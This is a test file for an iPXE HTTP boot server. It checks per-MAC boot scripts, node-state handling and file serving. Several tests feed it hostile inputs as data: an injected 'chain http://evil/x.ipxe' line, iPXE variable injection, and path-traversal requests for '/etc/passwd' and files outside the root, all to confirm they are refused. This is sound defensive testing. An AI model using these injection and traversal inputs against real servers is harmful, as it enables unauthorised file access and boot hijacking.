// The HTTP boot server against a real SQLite store and real HTTP clients (fetch and curl).
import { expect } from 'chai';
import { execFile } from 'node:child_process';
import crypto from 'node:crypto';
import fs from 'node:fs';
import type http from 'node:http';
import os from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import { buildHttpBootApp } from '../../../core/boot/http-boot.js';
import { loadConfig } from '../../../core/config-load.js';
import type { Store } from '../../../core/db/store.js';
import type { ProvisionState } from '../../../core/states/provision-states.js';
import { boundPort, closeServer, listen } from '../../../core/listen.js';
import { captureLogger } from '../../helpers/capture-log.js';
import { freshStore } from '../../helpers/databases.js';
import { requireTool } from '../../helpers/tools.js';

const run = promisify(execFile);

describe('HTTP boot server', function () {
  this.timeout(30_000);
  let store: Store;
  let server: http.Server;
  let base: string;
  let root: string;
  let discovery = false;
  const image = crypto.randomBytes(64 * 1024);
  const logs = captureLogger();
  const scriptsServed: string[] = [];

  async function nodeWithMac(mac: string, state: ProvisionState, driverInfo: Record<string, unknown> = {}) {
    const node = await store.nodes.create({ driver: 'fake-hardware', provision_state: state, driver_info: driverInfo });
    await store.ports.create({ node_id: node.id, address: mac });
    return node;
  }

  before(async () => {
    store = await freshStore('sqlite');
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'tyr-httpboot-'));
    root = path.join(dir, 'boot');
    fs.mkdirSync(path.join(root, 'images'), { recursive: true });
    fs.writeFileSync(path.join(root, 'images', 'disk.raw'), image);
    fs.writeFileSync(path.join(dir, 'secret.txt'), 'outside the root');
    fs.symlinkSync(path.join(dir, 'secret.txt'), path.join(root, 'link.txt'));
    const config = loadConfig({ env: {}, overrides: { boot: { deploy_kernel: 'tyr.kernel', deploy_ramdisk: 'tyr.initramfs' } } });
    const app = buildHttpBootApp({
      config: {
        ...config,
        discovery: {
          ...config.discovery,
          get enabled() {
            return discovery;
          },
        },
      },
      store,
      log: logs.log,
      root,
      bootUrl: () => base,
      apiUrl: () => 'http://10.0.2.2:6385',
      onScriptServed: (mac) => scriptsServed.push(mac),
    });
    server = await listen(app, '127.0.0.1', 0, 'HTTP boot', 'boot-http-port');
    base = `http://127.0.0.1:${boundPort(server)}`;
  });
  after(async () => {
    await closeServer(server);
    await store.close();
  });

  const text = async (p: string) => {
    const res = await fetch(base + p);
    return { status: res.status, body: await res.text() };
  };

  it('serves an entry script that chains to the per-MAC script', async () => {
    const r = await text('/boot.ipxe');
    expect(r.status).to.equal(200);
    expect(r.body).to.match(/^#!ipxe/);
    expect(r.body).to.contain(`chain ${base}/boot/\${net0/mac}.ipxe`);
  });

  it('boots the deploy ramdisk with the API URL and node identity while deploying', async () => {
    const node = await nodeWithMac('52:54:00:00:00:01', 'wait call-back');
    const r = await text('/boot/52:54:00:00:00:01.ipxe');
    expect(r.body).to.contain(
      `kernel ${base}/files/tyr.kernel ipa-api-url=http://10.0.2.2:6385 BOOTIF=01-52-54-00-00-00-01 tyr-mode=deploy tyr-node-uuid=${node.uuid}`,
    );
    expect(r.body).to.contain(`initrd --name ramdisk ${base}/files/tyr.initramfs`);
    expect(r.body).not.to.contain('ipa-inspection-callback-url');
  });

  it('tells the ramdisk of a node being inspected where to post its data (a stock IPA inspects only then)', async () => {
    await nodeWithMac('52:54:00:00:00:0a', 'inspect wait');
    const r = await text('/boot/52:54:00:00:00:0a.ipxe');
    expect(r.body).to.contain('tyr-mode=deploy').and.contain('ipa-inspection-callback-url=http://10.0.2.2:6385/v1/continue_inspection');
  });

  it("appends the node's kernel_append_params, dropping words that could break the script", async () => {
    await nodeWithMac('52:54:00:00:00:03', 'clean wait', {
      kernel_append_params: 'ipa-advertise-host=127.0.0.1 ipa-advertise-port=19999 ${evil} a;b',
    });
    const body = (await text('/boot/52:54:00:00:00:03.ipxe')).body;
    expect(body).to.contain('ipa-advertise-host=127.0.0.1 ipa-advertise-port=19999');
    expect(body).to.not.contain('${evil}').and.not.contain('a;b');
  });

  it('never lets a stored kernel reference add a line: the node boots from disk instead (before: a `chain` line)', async () => {
    const node = await nodeWithMac('52:54:00:00:00:04', 'rescue wait', {
      rescue_kernel: 'http://images/r.kernel\nchain http://evil/x.ipxe',
      rescue_ramdisk: 'r.initramfs',
    });
    const body = (await text('/boot/52:54:00:00:00:04.ipxe')).body;
    expect(body.split('\n').filter((line) => line.includes('evil'))).to.deep.equal([]);
    expect(body)
      .to.match(/^exit$/m)
      .and.not.match(/^(kernel|chain)/m);
    expect(body).to.contain(`node ${node.uuid}: driver_info/rescue_kernel is not an http(s) URL`);
    await nodeWithMac('52:54:00:00:00:05', 'clean wait', { deploy_ramdisk: 'tyr.initramfs ${evil}' });
    expect((await text('/boot/52:54:00:00:00:05.ipxe')).body)
      .to.not.contain('${evil}')
      .and.not.match(/^initrd/m);
  });

  it('follows the node state: rescue ramdisk from driver_info, then local disk when active', async () => {
    const node = await nodeWithMac('52:54:00:00:00:02', 'rescue wait', {
      rescue_kernel: 'http://images/r.kernel',
      rescue_ramdisk: 'r.initramfs',
    });
    expect((await text('/boot/52-54-00-00-00-02.ipxe')).body)
      .to.contain('kernel http://images/r.kernel')
      .and.contain('tyr-mode=rescue');
    await store.nodes.update(node.id, { provision_state: 'active' });
    // UEFI (the default): back to the firmware's next boot option; BIOS: the disk by INT 13h.
    const local = await text('/boot/52:54:00:00:00:02.ipxe');
    expect(local.body)
      .to.match(/^exit$/m)
      .and.not.contain('sanboot')
      .and.not.contain('kernel');
    await store.nodes.update(node.id, { properties: { capabilities: 'boot_mode:bios' } });
    const bios = await text('/boot/52:54:00:00:00:02.ipxe');
    expect(bios.body)
      .to.contain('sanboot --no-describe --drive 0x80')
      .and.not.match(/^exit$/m);
  });

  it('boots an unknown MAC locally, or into discovery when discovery is on', async () => {
    expect((await text('/boot/52:54:00:ff:ff:ff.ipxe')).body).to.contain('sanboot');
    discovery = true;
    try {
      const r = await text('/boot/52:54:00:ff:ff:ff.ipxe');
      expect(r.body).to.contain('tyr-mode=discovery').and.not.contain('tyr-node-uuid');
      expect(r.body).to.contain('ipa-inspection-callback-url=http://10.0.2.2:6385/v1/continue_inspection');
    } finally {
      discovery = false;
    }
  });

  it('answers 404 with guidance for a malformed MAC, and reports only served scripts', async () => {
    const before = scriptsServed.length;
    const r = await text('/boot/not-a-mac.ipxe');
    expect(r.status).to.equal(404);
    expect(scriptsServed.length).to.equal(before);
    await text('/boot/52-54-00-AA-00-09.ipxe');
    expect(scriptsServed.at(-1)).to.equal('52:54:00:aa:00:09');
    expect(r.body).to.contain('/boot/<mac>.ipxe');
  });

  it('serves files with Content-Length and byte ranges', async () => {
    const full = await fetch(`${base}/files/images/disk.raw`);
    expect(full.headers.get('content-length')).to.equal(String(image.length));
    expect(Buffer.compare(Buffer.from(await full.arrayBuffer()), image)).to.equal(0);
    const part = await fetch(`${base}/files/images/disk.raw`, { headers: { Range: 'bytes=1000-1999' } });
    expect(part.status).to.equal(206);
    expect(part.headers.get('content-length')).to.equal('1000');
    expect(Buffer.compare(Buffer.from(await part.arrayBuffer()), image.subarray(1000, 2000))).to.equal(0);
  });

  it('never serves outside its root: dot-dot, encoded dot-dot, absolute paths, symlinks', async () => {
    const curl = requireTool('curl');
    for (const p of [
      '/files/../secret.txt',
      '/files/%2e%2e/secret.txt',
      '/files/images/..%2f..%2fsecret.txt',
      '/files//etc/passwd',
      '/files/link.txt',
    ]) {
      const { stdout } = await run(curl, ['-s', '--path-as-is', '-o', '-', '-w', '\n%{http_code}', base + p]);
      const [body, code] = [stdout.slice(0, stdout.lastIndexOf('\n')), stdout.slice(stdout.lastIndexOf('\n') + 1)];
      expect(code, p).to.equal('404');
      expect(body, p).to.not.contain('outside the root').and.not.contain('root:x:0');
    }
    expect(logs.lines().some((l) => l.reason === 'resolves outside the root (symlink)')).to.equal(true);
  });
});
